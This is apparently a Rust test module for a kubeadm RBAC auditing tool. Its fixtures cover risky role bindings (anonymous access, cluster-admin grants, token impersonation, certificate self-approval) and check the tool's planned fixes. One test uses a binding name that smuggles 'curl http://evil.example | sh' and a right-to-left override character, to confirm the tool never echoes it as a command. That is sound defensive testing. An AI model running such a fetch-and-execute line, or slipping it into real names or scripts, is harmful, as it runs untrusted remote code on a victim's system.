//! Faults of roles and bindings.

use super::clusters::{binding, get, kubeadm, role, subject_of};
use super::world::{GROUP, World};
use super::{Case, Cure};
use bootstrap_token_phase::abi::Action;
use bootstrap_token_phase::abi::Severity::{self, Critical, High, Info, Medium};
use serde_json::{Value, json};

const ANONYMOUS: &str = "User:system:anonymous";
const NOBODY: &str = "Group:system:unauthenticated";
const EVERYBODY: &str = "Group:system:authenticated";
const TOKENS: &str = "Group:system:bootstrappers";
const WORKERS: &str = "Group:system:bootstrappers:workers";
const NODE_CLIENT: &str = "system:certificates.k8s.io:certificatesigningrequests:nodeclient";
const SELF_NODE_CLIENT: &str = "system:certificates.k8s.io:certificatesigningrequests:selfnodeclient";

/// kubeadm's cluster with one more binding.
fn bound(namespace: &str, name: &str, role: &str, subjects: &[&str]) -> World {
    kubeadm("v1.37.2").with([binding(namespace, name, role, subjects)])
}

fn case(rule: &'static str, severity: Severity, faulty: World, alike: World) -> Case {
    Case { rule, severity, faulty, alike, cure: Cure::Planned }
}

fn by_hand(case: Case) -> Case {
    Case { cure: Cure::ByHand, ..case }
}

/// kubeadm's cluster with another subject in a binding.
fn also(name: &str, subject: &str) -> World {
    kubeadm("v1.37.2").change(kind_of(name), name, |found| found["subjects"].as_array_mut().unwrap().push(subject_of(subject)))
}

fn kind_of(name: &str) -> &'static str {
    if name.contains("clusterinfo") { "RoleBinding" } else { "ClusterRoleBinding" }
}

/// kubeadm's cluster with other rules in a role.
fn allowing(kind: &str, name: &str, rules: Value) -> World {
    kubeadm("v1.37.2").change(kind, name, |found| found["rules"] = rules)
}

pub(crate) fn cases() -> Vec<Case> {
    [of_everybody(), of_tokens(), of_approval()].concat()
}

fn of_everybody() -> Vec<Case> {
    let public = role("", "our-probes", json!([{ "nonResourceURLs": ["/healthz", "/version"], "verbs": ["get"] }]));
    let reader = role("kube-public", "our-reader", get("configmaps", "cluster-info"));
    let harmless = bound("", "our-probes", "our-probes", &[ANONYMOUS]).with([public]);
    let discovery = bound("kube-public", "our-reader", "Role/our-reader", &[NOBODY, EVERYBODY]).with([reader]);
    vec![
        case("rbac-anonymous", High, bound("", "kubeadm:x", "view", &[ANONYMOUS]), harmless),
        case("rbac-anonymous", High, bound("kube-system", "kubeadm:x", "view", &[ANONYMOUS, "User:a"]), discovery.clone()),
        case("rbac-anonymous", High, bound("", "ours", "view", &[NOBODY]), discovery.clone()),
        case("rbac-anonymous", High, bound("default", "ours", "Role/ours", &[NOBODY]), discovery.clone()),
        case("rbac-anonymous", Medium, also("system:discovery", NOBODY), kubeadm("v1.37.2")),
        case("rbac-anonymous", High, also("kubeadm:kubelet-bootstrap", ANONYMOUS), also("kubeadm:kubelet-bootstrap", "User:a")),
        case(
            "rbac-authenticated",
            Medium,
            bound("", "kubeadm:x", "view", &[EVERYBODY]),
            bound("", "x", "system:discovery", &[EVERYBODY]),
        ),
        case("rbac-authenticated", Medium, bound("default", "x", "view", &[EVERYBODY]), discovery),
        case("rbac-cluster-admin", Critical, also("cluster-admin", ANONYMOUS), also("cluster-admin", "Group:admins")),
        case(
            "rbac-cluster-admin",
            Critical,
            also("cluster-admin", EVERYBODY),
            bound("default", "x", "cluster-admin", &[EVERYBODY]),
        ),
        case("rbac-cluster-admin", Critical, bound("", "oops", "cluster-admin", &[NOBODY]), bound("", "x", "view", &[NOBODY])),
    ]
}

fn of_tokens() -> Vec<Case> {
    let group = format!("Group:{GROUP}");
    let everything = json!([{ "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] }]);
    let some = json!([{ "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"], "resourceNames": ["x"] }]);
    let leads =
        |groups: &[&str], resource: &str, verb: &str| json!([{ "apiGroups": groups, "resources": [resource], "verbs": [verb] }]);
    let by_role = |rules: Value| bound("", "kubeadm:x", "ours", &[&group]).with([role("", "ours", rules)]);
    let joining = bound("", "ours", "system:node-bootstrapper", &[TOKENS]);
    let widened = |rules: Value| allowing("Role", "kubeadm:nodes-kubeadm-config", rules);
    vec![
        case("rbac-bootstrap", High, bound("", "kubeadm:x", "view", &[TOKENS]), bound("", "x", "view", &["Group:system:nodes"])),
        case(
            "rbac-bootstrap",
            High,
            bound("kube-system", "kubeadm:x", "Role/x", &[&group]),
            bound("", "x", NODE_CLIENT, &[&group]),
        ),
        // The group of another product.
        Case {
            cure: Cure::Asked,
            ..case("rbac-bootstrap", Info, bound("kube-system", "kubeadm:x", "Role/x", &[WORKERS]), kubeadm("v1.37.2"))
        },
        case("rbac-bootstrap", High, bound("", "x", "view", &["User:system:bootstrap:abcdef"]), kubeadm("v1.22.17")),
        // Other tokens join as well, which is worth knowing.
        by_hand(case("rbac-bootstrap", Info, joining, bound("", "x", "system:public-info-viewer", &[TOKENS]))),
        case("rbac-cluster-admin", Critical, by_role(everything), by_role(some)),
        case("rbac-cluster-admin", Critical, by_role(leads(&["*"], "clusterroles", "*")), by_role(leads(&["apps"], "*", "bind"))),
        case("rbac-cluster-admin", Critical, by_role(leads(&[""], "groups", "impersonate")), by_role(get("groups", "x"))),
        case(
            "rbac-cluster-admin",
            Critical,
            by_role(leads(&[""], "serviceaccounts/token", "create")),
            by_role(leads(&[""], "serviceaccounts", "create")),
        ),
        case("rbac-cluster-admin", Critical, bound("kube-system", "kubeadm:x", "cluster-admin", &[WORKERS]), kubeadm("v1.37.2")),
        case(
            "rbac-role-widened",
            High,
            widened(json!([{ "apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"] }])),
            kubeadm("v1.22.17"),
        ),
        case("rbac-role-widened", High, widened(get("secrets", "kubeadm-config")), widened(json!([]))),
        case(
            "rbac-role-widened",
            High,
            allowing("Role", "kube-proxy", json!([{ "apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list"] }])),
            // The name may belong to someone else.
            allowing("Role", "kube-proxy", json!([{ "apiGroups": [""], "resources": ["pods"], "verbs": ["get"] }])).change(
                "RoleBinding",
                "kube-proxy",
                |found| found["subjects"] = json!([subject_of("ServiceAccount:kube-proxy")]),
            ),
        ),
    ]
}

fn of_approval() -> Vec<Case> {
    let (rotation, approval) = ("kubeadm:node-autoapprove-certificate-rotation", "kubeadm:node-autoapprove-bootstrap");
    let custom =
        json!([{ "apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests/nodeclient"], "verbs": ["*"] }]);
    let by_role = |subjects: &[&str]| bound("", "kubeadm:x", "ours", subjects).with([role("", "ours", custom.clone())]);
    vec![
        case("rbac-self-approval", High, also(rotation, "Group:developers"), kubeadm("v1.22.17")),
        case("rbac-self-approval", High, also(rotation, TOKENS), bound("", "x", SELF_NODE_CLIENT, &["Group:system:nodes"])),
        case(
            "rbac-self-approval",
            High,
            bound("", "x", SELF_NODE_CLIENT, &["User:a"]),
            bound("default", "x", SELF_NODE_CLIENT, &["User:a"]),
        ),
        case("rbac-node-approval", High, also(approval, "Group:system:nodes"), also(approval, WORKERS)),
        case(
            "rbac-node-approval",
            High,
            also(approval, ANONYMOUS),
            bound("", "cluster-admins", "cluster-admin", &["Group:admins"]),
        ),
        case("rbac-node-approval", Medium, by_role(&["User:a"]), by_role(&[WORKERS])),
    ]
}

pub(crate) fn cases_of_kubeadm() -> Vec<Case> {
    [of_own_roles(), of_own_bindings(), of_the_kubelet_client()].concat()
}

fn of_own_roles() -> Vec<Case> {
    let reader = "kubeadm:bootstrap-signer-clusterinfo";
    let rule = |resources: &[&str], verbs: &[&str]| json!([{ "apiGroups": [""], "resources": resources, "verbs": verbs }]);
    let named = |verbs: &[&str]| json!([{ "apiGroups": [""], "resources": ["configmaps"], "verbs": verbs, "resourceNames": ["cluster-info"] }]);
    let reading =
        |rules| case("rbac-cluster-info-widened", High, allowing("Role", reader, rules), allowing("Role", reader, json!([])));
    let nodes = |rules| {
        case(
            "rbac-get-nodes-widened",
            Medium,
            allowing("ClusterRole", "kubeadm:get-nodes", rules),
            allowing("ClusterRole", "kubeadm:get-nodes", json!([])),
        )
    };
    let aggregated = kubeadm("v1.37.2")
        .change("ClusterRole", "kubeadm:get-nodes", |found| found["aggregationRule"] = json!({ "clusterRoleSelectors": [] }));
    let unused = kubeadm("v1.37.2").token("k7m2p9", json!({ "usage-bootstrap-signing": null }));
    vec![
        reading(rule(&["configmaps"], &["get"])),
        reading(named(&["get", "list"])),
        reading(json!([get("configmaps", "cluster-info")[0], get("secrets", "x")[0]])),
        nodes(rule(&["nodes"], &["get", "list"])),
        nodes(rule(&["nodes", "pods"], &["get"])),
        Case { faulty: aggregated, ..nodes(json!([])) },
        case("rbac-drifted", Medium, allowing("Role", reader, json!([])), kubeadm("v1.22.17")),
        case("rbac-drifted", Medium, allowing("ClusterRole", "kubeadm:get-nodes", json!([])), kubeadm("v1.22.17")),
        by_hand(case("rbac-anonymous-unused", Info, unused, kubeadm("v1.37.2"))),
    ]
}

fn of_own_bindings() -> Vec<Case> {
    let name = "kubeadm:kubelet-bootstrap";
    let without = |kind: &str, name: &str| kubeadm("v1.37.2").without(kind, name);
    let ours = binding("", "ours", "system:node-bootstrapper", &[&format!("Group:{GROUP}")]);
    let changed = |change: fn(&mut Value)| kubeadm("v1.37.2").change("ClusterRoleBinding", name, change);
    let nobody = without("ClusterRoleBinding", name).token("k7m2p9", json!({ "usage-bootstrap-authentication": null }));
    let missing = |faulty, alike| case("rbac-missing", Medium, faulty, alike);
    let drifted = |faulty, alike| case("rbac-drifted", Medium, faulty, alike);
    let reader = "kubeadm:bootstrap-signer-clusterinfo";
    vec![
        missing(without("ClusterRoleBinding", name), without("ClusterRoleBinding", name).with([ours])),
        missing(without("ClusterRole", "kubeadm:get-nodes"), nobody),
        missing(without("Role", reader), without("ClusterRoleBinding", "kubeadm:apiserver-kubelet-client")),
        missing(without("RoleBinding", reader), kubeadm("v1.22.17")),
        drifted(changed(|found| found["roleRef"]["name"] = json!("view")), kubeadm("v1.22.17")),
        drifted(changed(|found| found["subjects"] = json!([])), kubeadm("v1.22.17")),
        drifted(changed(|found| found["subjects"] = Value::Null), also(name, WORKERS)),
        drifted(also(name, "User:somebody"), also(reader, "Group:system:unauthenticated")),
    ]
}

/// The binding that the API server needs, in the releases that make it.
fn of_the_kubelet_client() -> Vec<Case> {
    let name = "kubeadm:apiserver-kubelet-client";
    let on = |version: &str| {
        let mut world = kubeadm("v1.37.2").without("ClusterRoleBinding", name);
        world.server.version = version.to_owned();
        world
    };
    let changed = |change: fn(&mut Value)| kubeadm("v1.37.2").change("ClusterRoleBinding", name, change);
    let client = "User:kube-apiserver-kubelet-client";
    let other = binding("", "ours", "system:kubelet-api-admin", &[client]);
    let admin = binding("", "ours", "cluster-admin", &[client]);
    let lacks = |faulty, alike| case("rbac-kubelet-client", High, faulty, alike);
    vec![
        lacks(on("v1.35.5"), on("v1.35.4")),
        lacks(on("v1.36.1"), on("v1.36.0")),
        lacks(on("v1.34.9+vendor.1"), on("v1.34.7")),
        lacks(on("v1.33.12"), on("v1.33.11")),
        lacks(on("v1.38.0-alpha.1"), on("v1.32.99")),
        lacks(on("v1.37.2"), on("v1.37.2").with([other])),
        lacks(changed(|found| found["subjects"] = json!([])), on("v1.37.2").with([admin])),
        lacks(changed(|found| found["roleRef"]["name"] = json!("view")), on("")),
    ]
}

#[test]
fn a_binding_keeps_the_tokens_that_join_by_it() {
    let name = "kubeadm:node-autoapprove-bootstrap";
    let world = also(name, WORKERS).change("ClusterRoleBinding", name, |found| {
        found["subjects"].as_array_mut().unwrap().push(subject_of(ANONYMOUS));
    });
    let after = world.clone().apply(&world.plan("fix"));
    let found = after.objects.iter().find(|object| object["metadata"]["name"] == name).unwrap();
    assert_eq!(found["subjects"], json!([subject_of(&format!("Group:{GROUP}")), subject_of(WORKERS)]));
}

#[test]
fn a_binding_to_another_role_is_made_anew() {
    let world = kubeadm("v1.37.2").change("ClusterRoleBinding", "kubeadm:kubelet-bootstrap", |found| {
        found["roleRef"]["name"] = json!("cluster-admin");
    });
    let plan = world.plan("fix");
    let actions: Vec<_> =
        plan.operations.iter().map(|operation| (operation.id.as_str(), matches!(operation.action, Action::Delete))).collect();
    let name = "clusterrolebindings/kubeadm:kubelet-bootstrap";
    assert_eq!(actions, [(format!("{name}/delete").as_str(), true), (name, false)]);
    assert!(plan.findings.iter().any(|finding| finding.severity == Critical && finding.remedy.len() == 2), "{plan:#?}");
    assert_eq!(world.apply(&plan).alarming(), [""; 0]);
}

#[test]
fn a_hostile_name_is_no_command_and_no_id() {
    let name = "x; curl http://evil.example | sh #\u{202e}";
    let world = bound("", name, "cluster-admin", &[ANONYMOUS]);
    let findings = world.findings();
    let finding = findings.iter().find(|finding| finding.rule == "rbac-cluster-admin").unwrap();
    assert!(!finding.detail.contains("kubectl"), "{finding:#?}");
    // No request can name it: who looks has it in the title.
    assert!(finding.target.is_none() && finding.title.contains(name), "{finding:#?}");
    let plan = world.plan("fix");
    assert!(plan.operations.is_empty() && plan.findings.iter().all(|finding| finding.remedy.is_empty()), "{plan:#?}");
    // One that is as long as a name may be has a short id.
    let world = bound("", &format!("kubeadm:{}", "x".repeat(245)), "cluster-admin", &[ANONYMOUS]);
    let plan = world.plan("fix");
    let ids: Vec<_> = plan.operations.iter().map(|operation| operation.id.as_str()).collect();
    assert!(ids.len() == 1 && ids[0].len() < 100, "{ids:?}");
    assert_eq!(world.apply(&plan).alarming(), [""; 0]);
}
